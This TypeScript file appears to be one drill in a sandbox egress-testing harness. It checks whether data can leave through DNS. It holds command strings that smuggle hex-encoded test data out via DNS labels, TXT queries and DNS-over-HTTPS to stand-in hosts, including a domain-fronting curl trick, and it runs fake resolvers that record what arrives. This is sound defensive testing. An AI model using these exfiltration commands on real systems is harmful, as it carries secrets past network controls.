/**
 * D06: data out by questions about names, by DNS over HTTPS and TLS, and straight to an address.
 *
 * @module
 */
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { createServer } from "node:net";
import { decode, encode, streamDecode, streamEncode, type Packet } from "dns-packet";
import { lost, NOT_REACHED, type Attempt, type Drill, type Place } from "../field/drill.ts";
import { openWeb } from "../field/web.ts";

const NS = "ns.resolver.example";
const DOH = "dns.outside.example";
const GRANTED = "api.granted.example";
const DOT_PORT = 853;
const secret = "73656372657420726f777320".repeat(2);

const attempt = (
  name: string,
  what: string,
  command: string,
  expects: readonly string[] = [],
): Attempt => ({
  name,
  target: name.startsWith("doh") ? DOH : NS,
  what,
  command: command.replaceAll("MARK", `d06-${name}`),
  mark: `d06-${name}`,
  expects,
  ...(ANSWERED_INSIDE.has(name)
    ? { silent: "every question is answered inside; none is passed on" }
    : {}),
});
const ANSWERED_INSIDE = new Set(["labels", "txt-udp"]);
const address = `\${address:${NS}}`;

const attempts: readonly Attempt[] = [
  attempt(
    "labels",
    "data as labels, by the system's own resolver",
    `for n in 1 2 3 4 5 6 7 8; do getent hosts $n.${secret}.d06-labels.t.example; done; sh -c 'getent hosts MARK.t.example; true'`,
    ["resolver"],
  ),
  attempt(
    "txt-udp",
    "TXT questions straight to a resolver (UDP)",
    `node ask.mjs udp ${address} 53 MARK`,
    ["resolver"],
  ),
  attempt("txt-tcp", "the same over TCP", `node ask.mjs tcp ${address} 53 MARK`, ["resolver"]),
  attempt("dot-port", "the same to port 853", `node ask.mjs tcp ${address} ${DOT_PORT} MARK`),
  attempt(
    "doh-name",
    "DNS over HTTPS at a host that is not granted",
    `curl -sS --max-time 6 'https://${DOH}/dns-query?name=${secret}.MARK.t.example&type=TXT'`,
  ),
  attempt(
    "doh-address",
    "DNS over HTTPS straight to an address",
    `curl -sSk --max-time 6 'https://\${address:${DOH}}/dns-query?name=${secret}.MARK.t.example'`,
  ),
  attempt(
    "doh-front",
    "the granted host's name for a connection to another address",
    `curl -sSk --max-time 6 --resolve ${GRANTED}:443:\${address:${DOH}} 'https://${GRANTED}/dns-query?name=MARK'`,
  ),
];

export const D06: Drill = {
  id: "d06",
  name: "d06-dns-exfiltration",
  folder: import.meta.dirname,
  incidents: "C3",
  story: {
    title: "Data out by DNS",
    sentences: [
      "In May 2026 a poisoned release of Nx Console carried secrets out in three ways at once:",
      "HTTPS, GitHub's own API, and labels of names that were asked for.",
    ],
  },
  hosts: [NS, DOH, GRANTED],
  twins: [
    { name: "look up the granted host", command: `getent hosts ${GRANTED}`, expected: GRANTED },
    {
      name: "ask the granted host",
      command: `curl -sS --fail --max-time 6 https://${GRANTED}/status`,
      expected: "fine",
    },
  ],
  attempts,
  open,
};

async function open(place: Place) {
  const asked: string[] = [];
  const note = (packet: Packet) => asked.push(...(packet.questions ?? []).map(({ name }) => name));
  const answerTo = (packet: Packet) => ({
    type: "response" as const,
    ...(packet.id === undefined ? {} : { id: packet.id }),
    ...(packet.questions === undefined ? {} : { questions: packet.questions }),
    answers: [],
  });
  const at = place.addresses[NS] ?? "";
  const udp = createSocket("udp4", (bytes, { port, address: from }) => {
    const packet = decode(bytes);
    note(packet);
    udp.send(encode(answerTo(packet)), port, from);
  });
  udp.bind(53, at);
  await once(udp, "listening");
  const servers = [53, DOT_PORT].map((port) => ({
    port,
    server: createServer((socket) => {
      socket.on("error", () => socket.destroy());
      socket.once("data", (bytes) => {
        const packet = streamDecode(bytes);
        note(packet);
        socket.end(streamEncode(answerTo(packet)));
      });
    }),
  }));
  for (const { port, server } of servers) {
    server.listen(port, at);
    await once(server, "listening");
  }
  const web = await openWeb(place, [DOH, GRANTED], () => ({ body: "fine\n" }));
  return {
    reset() {
      asked.splice(0);
      web.seen.splice(0);
    },
    reached: () =>
      Promise.resolve(
        Object.fromEntries(
          attempts.map(({ name, mark }) => {
            const names = asked.filter((text) => text.includes(mark)).length;
            const urls = web.seen.filter((one) => one.url.includes(mark)).length;
            const told = `${names + urls} questions with data in them came in`;
            return [name, names + urls > 0 ? lost(told) : NOT_REACHED];
          }),
        ),
      ),
    close() {
      udp.close();
      for (const { server } of servers) server.close();
      web.close();
    },
  };
}
